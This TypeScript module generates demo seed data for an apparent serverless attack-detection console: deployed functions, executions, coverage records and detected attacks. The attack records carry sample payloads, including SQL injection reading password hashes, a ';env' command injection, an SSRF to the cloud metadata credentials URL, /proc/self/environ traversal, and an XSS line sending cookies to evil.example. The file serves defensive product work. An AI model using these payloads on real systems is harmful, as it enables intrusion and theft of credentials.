import type { DeployedFunction, IngestBatch } from '@bulkhead/console-contract';
import {
  ATTACK_CLASSES,
  type AttackClass,
  type AttackRecord,
  type CoverageRecord,
  type Execution,
  type FunctionRef,
  toDetectionFinding,
  uuidv7,
} from '@bulkhead/core';

const HOUR = 3_600_000;
const DAY = 24 * HOUR;
/** Items of one request: keeps each body far below the contract's 1 MiB. */
const CHUNK = 500;

/** Small linear congruential generator (Numerical Recipes): the same figures in every run. */
export function makeRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
}

const random = makeRandom(42);
const fill = (bytes: Uint8Array) => {
  for (let i = 0; i < bytes.length; i++) bytes[i] = Math.floor(random() * 256);
};
const newId = (time: number) => uuidv7(time, fill);

const PRODUCTION = '123456789012';
const STAGING = '210987654321';

interface SeedFunction {
  readonly fn: FunctionRef;
  readonly app: string;
  readonly mode: 'block' | 'alert' | 'off' | 'none';
  readonly weight: number;
  readonly reason?: string;
  readonly failedHook?: string;
}

function seedFunction(
  app: string,
  name: string,
  patch: Partial<Omit<SeedFunction, 'fn' | 'app'>> & Partial<FunctionRef> = {},
): SeedFunction {
  const { mode = 'block', weight = 1, reason, failedHook, ...ref } = patch;
  const fn = { name, version: '$LATEST', region: 'eu-central-1', account: PRODUCTION, runtime: 'nodejs22.x', ...ref };
  return { fn, app, mode, weight, ...(reason ? { reason } : {}), ...(failedHook ? { failedHook } : {}) };
}

export const SEED_FUNCTIONS: readonly SeedFunction[] = [
  seedFunction('voting-app', 'voting-app-poll-page', { weight: 40 }),
  seedFunction('voting-app', 'voting-app-cast-vote', { weight: 22, version: '14' }),
  seedFunction('voting-app', 'voting-app-tally', { weight: 9, runtime: 'nodejs24.x' }),
  seedFunction('voting-app', 'voting-app-export-report', {
    mode: 'none',
    weight: 2,
    runtime: 'python3.12',
    reason: 'python3.12 is not protected yet',
  }),
  seedFunction('attack-lab', 'attack-lab-list-files', { weight: 3 }),
  seedFunction('attack-lab', 'attack-lab-fetch-url', { weight: 3 }),
  seedFunction('attack-lab', 'attack-lab-countdown', { weight: 1 }),
  seedFunction('shop', 'shop-search-products', { weight: 30, region: 'us-east-1', version: '7' }),
  seedFunction('shop', 'shop-checkout', { weight: 6, region: 'us-east-1', version: '31', mode: 'alert' }),
  seedFunction('shop', 'shop-resize-image', {
    weight: 5,
    region: 'us-east-1',
    runtime: 'nodejs20.x',
    failedHook: 'child_process.exec was captured before the hook was installed',
  }),
  seedFunction('shop', 'shop-send-receipt', { weight: 4, region: 'us-east-1', runtime: 'nodejs20.x' }),
  seedFunction('shop', 'shop-search-products', { account: STAGING, weight: 2, mode: 'alert' }),
  seedFunction('shop', 'shop-checkout', { account: STAGING, weight: 1, mode: 'off' }),
];

/** One attack record; what is not given is a blocked SQL injection in the voting app. */
export function attack(patch: Partial<AttackRecord> = {}): AttackRecord {
  const time = patch.time ?? 1_763_650_000_000;
  const kind = patch.class ?? 'sqli';
  return {
    kind: 'attack',
    id: newId(time),
    time,
    lastTime: time,
    count: 1,
    rule: `detector/${kind}`,
    ruleVersion: '1.0.0',
    class: kind,
    severity: ATTACK_CLASSES[kind].severity,
    confidence: 'high',
    action: 'blocked',
    message: `${ATTACK_CLASSES[kind].title} in a value of the event.`,
    source: 'apigateway-v2',
    path: 'body|json.candidate',
    excerpt: "' OR '1'='1' --",
    function: SEED_FUNCTIONS[1]!.fn,
    requestId: newId(time),
    coldStart: false,
    ...patch,
  };
}

const ATTACKS: readonly {
  readonly share: number;
  readonly class: AttackClass;
  readonly on: readonly number[];
  readonly what: Partial<AttackRecord>;
}[] = [
  {
    share: 30,
    class: 'sqli',
    on: [1, 7, 11],
    what: {
      message: 'A value of the event changes the structure of an SQL statement.',
      path: 'queryStringParameters.q',
      excerpt: "wine' UNION SELECT email, password_hash FROM users --",
      sink: {
        operation: 'pg.Client.query',
        target: "SELECT * FROM products WHERE name LIKE '%wine' UNION SELECT email…",
      },
    },
  },
  {
    share: 14,
    class: 'cmdi',
    on: [4],
    what: {
      rule: 'hook/child-process',
      message: 'A value of the event adds a command to the one that the function runs.',
      source: 'apigateway-v1',
      path: 'queryStringParameters.prefix',
      excerpt: ';env',
      sink: { operation: 'child_process.exec', target: 'node bucket-list.mjs holiday-photos/;env' },
    },
  },
  {
    share: 18,
    class: 'ssrf',
    on: [5],
    what: {
      rule: 'hook/outbound',
      message: 'A value of the event leads a connection to an address inside the platform.',
      path: 'queryStringParameters.url',
      excerpt: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      sink: { operation: 'net.connect', target: '169.254.169.254:80' },
    },
  },
  {
    share: 11,
    class: 'traversal',
    on: [9, 4],
    what: {
      path: 'pathParameters.file',
      excerpt: '../../../../proc/self/environ',
      message: 'A value of the event leaves the folder that the function reads.',
    },
  },
  {
    share: 20,
    class: 'xss',
    on: [0, 1, 8],
    what: {
      path: 'body|json.comment',
      excerpt: '<script>fetch(`//evil.example/?c=${document.cookie}`)</script>',
      message: 'A value of the event carries script.',
    },
  },
  {
    share: 4,
    class: 'credentials',
    on: [5],
    what: {
      rule: 'hook/credentials',
      message: "The function's own credentials were about to leave it.",
      path: '',
      excerpt: '',
      sink: { operation: 'http.request', target: 'https://evil.example/collect?k=[redacted]' },
    },
  },
  {
    share: 3,
    class: 'recursion',
    on: [6],
    what: {
      rule: 'hook/recursion',
      message: 'The function invoked itself more often in one chain of requests than the policy allows.',
      path: '',
      excerpt: '',
      sink: { operation: 'Lambda.Invoke', target: 'attack-lab-countdown' },
    },
  },
];

/** About `count` attacks over the 24 hours before `now`: quiet nights, and one scan two and a half hours ago. */
export function seedAttacks(now: number, count = 320): AttackRecord[] {
  const shares = ATTACKS.flatMap((entry) => Array<(typeof ATTACKS)[number]>(entry.share).fill(entry));
  return Array.from({ length: count }, (_, i) => {
    const burst = i % 3 === 0;
    const age = burst ? 2.5 * HOUR + random() * 0.5 * HOUR : random() ** 1.4 * DAY;
    const time = Math.floor(now - age);
    const kind = shares[Math.floor(random() * shares.length)]!;
    const target = SEED_FUNCTIONS[kind.on[Math.floor(random() * kind.on.length)]!]!;
    const repeats = random() < 0.2 ? 2 + Math.floor(random() * 30) : 1;
    return attack({
      class: kind.class,
      time,
      lastTime: time + (repeats > 1 ? Math.floor(random() * 55_000) : 0),
      count: repeats,
      action: target.mode === 'alert' || random() < 0.06 ? 'observed' : 'blocked',
      confidence: random() < 0.7 ? 'high' : 'medium',
      function: target.fn,
      coldStart: random() < 0.05,
      traceId: `1-${Math.floor(time / 1_000).toString(16)}-${newId(time).slice(-12)}${newId(time).slice(-12)}`,
      ...kind.what,
    });
  });
}

export function seedExecutions(now: number, count = 4_000): Execution[] {
  const lots = SEED_FUNCTIONS.flatMap((entry) => Array<SeedFunction>(entry.weight).fill(entry));
  return Array.from({ length: count }, (_, i) => {
    const entry = lots[Math.floor(random() * lots.length)]!;
    const time = Math.floor(now - random() * DAY);
    const durationMs = Math.round((4 + random() ** 3 * 400) * 100) / 100;
    const luck = random();
    return {
      kind: 'execution',
      requestId: newId(time),
      time,
      function: entry.fn,
      logStream: `2026/11/20/[${entry.fn.version}]${'0123456789abcdef'.repeat(2)}`,
      status: luck < 0.012 ? 'error' : luck < 0.014 ? 'timeout' : 'success',
      durationMs,
      billedMs: Math.ceil(durationMs),
      memoryMb: 256,
      maxMemoryMb: 84 + (i % 40),
      ...(i % 97 === 0 ? { initMs: 212.4 } : {}),
    };
  });
}

export function seedInventory(now: number): { functions: DeployedFunction[]; coverages: CoverageRecord[] } {
  const functions = SEED_FUNCTIONS.map((entry, i) => ({
    function: entry.fn,
    app: entry.app,
    deployedAt: now - (i + 1) * 0.9 * DAY,
    ...(entry.reason ? { unprotectedReason: entry.reason } : {}),
  })).map((entry) => ({ ...entry, deployedAt: Math.floor(entry.deployedAt) }));
  const coverages = SEED_FUNCTIONS.flatMap((entry): CoverageRecord[] =>
    entry.mode === 'none'
      ? []
      : [
          {
            kind: 'coverage',
            id: newId(now - HOUR),
            time: now - HOUR,
            function: entry.fn,
            requestId: newId(now - HOUR),
            agent: '0.1.0',
            node: '22.23.1',
            installed: 'protect',
            mode: entry.mode,
            policy: 'file',
            handler: 'index.handler',
            detectors: ['sqli', 'cmdi', 'traversal', 'ssrf', 'xss'],
            hooks: [
              entry.failedHook
                ? { id: 'child-process', state: 'failed', note: entry.failedHook }
                : { id: 'child-process', state: 'on' },
              { id: 'outbound', state: 'on' },
              { id: 'credentials', state: 'on' },
            ],
            notes: [],
          },
        ],
  );
  return { functions, coverages };
}

/** Bodies for `POST /v1/records` that make a day of a small company's console. */
export function seedBatches(now: number): IngestBatch[] {
  const { functions, coverages } = seedInventory(now);
  const findings = seedAttacks(now).map(toDetectionFinding);
  const executions = seedExecutions(now);
  const batches: IngestBatch[] = [{ functions, coverages, counters: { forged: 3, malformed: 1, faults: 0 } }];
  for (let i = 0; i < findings.length; i += CHUNK) batches.push({ findings: findings.slice(i, i + CHUNK) });
  for (let i = 0; i < executions.length; i += CHUNK) batches.push({ executions: executions.slice(i, i + CHUNK) });
  return batches;
}
